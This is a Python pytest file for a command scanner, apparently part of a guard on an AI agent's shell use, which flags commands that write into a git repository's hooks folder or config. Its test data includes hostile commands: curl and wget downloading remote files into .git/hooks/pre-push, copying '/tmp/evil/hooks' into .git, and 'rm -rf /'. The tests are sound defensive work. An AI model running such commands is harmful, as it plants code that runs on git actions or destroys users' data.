"""A command that writes into the hooks folder, however it names where it writes.

An option's value attached or in a cluster of short options (`-C.git/hooks`,
`-xvC .git/hooks`), a target folder (`-t`, `--target-directory`), and a folder
copied or moved into `.git` whose name lands on the hooks or the config.
"""

from __future__ import annotations

import pytest

from failgate_hooks.core.agent.command_rules import Risk
from failgate_hooks.core.agent.command_scan import scan_command
from failgate_hooks.core.agent.protected import protected_writes
from tests.test_command_scan import PROTECTED, ROOT, risks

HOOK_WRITERS = [
    "tar -C .git/hooks -xf x.tar",
    "tar -xf x.tar -C .git/hooks",
    "tar -xvC .git/hooks -f x.tar",  # C in a cluster of short options
    "tar -xf x.tar -C.git/hooks",  # the value attached
    "tar --directory=.git/hooks -xf x.tar",
    "unzip x.zip -d .git/hooks",
    "unzip -qd .git/hooks x.zip",
    "unzip -d.git/hooks x.zip",
    "cp -t .git/hooks x",
    "cp -t.git/hooks x",
    "cp -rt .git/hooks x",
    "cp --target-directory=.git/hooks x",
    "install -t .git/hooks x",
    "install -m 755 -D x .git/hooks/pre-push",
    "mv -t .git/hooks x",
    "mv --target-directory=.git/hooks x",
    "ln -s x .git/hooks/pre-push",
    "ln -st .git/hooks x",
    "rsync x .git/hooks/",
    "rsync -a x/hooks .git/",  # a folder named hooks, copied into .git
    "cp -r /tmp/evil/hooks .git",
    "mv /tmp/evil/hooks .git/",
    "cp /tmp/evil/config .git/",  # .git/config, which says where the hooks are
    "dd of=.git/hooks/pre-push",
    "curl -so .git/hooks/pre-push https://example.org/x",
    "wget -qO .git/hooks/pre-push https://example.org/x",
]


@pytest.mark.parametrize("command", HOOK_WRITERS)
def test_a_writer_into_the_hooks_folder_is_refused(command: str) -> None:
    scan = scan_command(command, ROOT)
    found = protected_writes(scan.writes, scan.code, PROTECTED)
    assert {f.risk for f in found} == {Risk.PROTECTED_WRITE}, command


@pytest.mark.parametrize(
    "command",
    [
        "tar -xf x.tar -C build",
        "tar -cf out.tar .git/hooks",  # reads the hooks, writes out.tar
        "cp -t build x .git/hooks/pre-push",
        "unzip x.zip -d vendor",
        "cp -r src/hooks build/",
        "curl -so out.json https://example.org/x",
    ],
)
def test_a_writer_elsewhere_proceeds(command: str) -> None:
    assert risks(command) == set(), command


@pytest.mark.parametrize(
    ("command", "what"),
    [
        ("rm -rf /", "the git hooks folder"),
        ("cd / && rm -rf .", "the git hooks folder"),
        # git's own pathspecs never reach into .git: what they reach is the ledger
        ("git clean -fdx ':/!build'", "the ledger (ledger/)"),
        ("git clean -fdx", "the ledger (ledger/)"),
    ],
)
def test_removing_the_root_folder_reaches_what_lies_in_it(command: str, what: str) -> None:
    scan = scan_command(command, ROOT)
    found = protected_writes(scan.writes, scan.code, PROTECTED)
    assert [f.detail for f in found] == [what], command
